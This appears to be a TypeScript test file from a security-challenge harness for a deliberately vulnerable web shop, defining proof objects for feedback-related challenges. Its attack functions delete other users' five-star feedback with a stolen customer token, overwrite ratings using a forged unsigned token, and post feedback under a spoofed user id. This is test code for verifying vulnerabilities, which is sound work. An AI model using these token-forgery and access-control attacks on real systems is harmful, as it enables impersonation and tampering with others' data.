import { forgeUnsigned } from '../attacker/forge-token.js'
import { tokenOfJim } from '../features/customers.js'
import { giveFeedback, givesFeedback } from '../features/texts.js'
import { proof } from '../proof.js'

export const feedbackChallenge = proof({
  async attack(me) {
    const token = await tokenOfJim(me)
    const { data } = (await me.get('/api/Feedbacks')).json<{ data: { id: number; rating: number }[] }>()
    for (const { id, rating } of data) if (rating === 5) await me.delete(`/api/Feedbacks/${id}`, { token })
  },
  otherAttacks: [
    async (me) => {
      for (let id = 1; id < 9; id += 1)
        await me.put(`/api/Feedbacks/${id}`, { rating: 1 }, { token: forgeUnsigned({}) })
    },
  ],
  honest: givesFeedback,
})

export const forgedFeedbackChallenge = proof({ attack: giveFeedback({ UserId: 3 }), honest: givesFeedback })
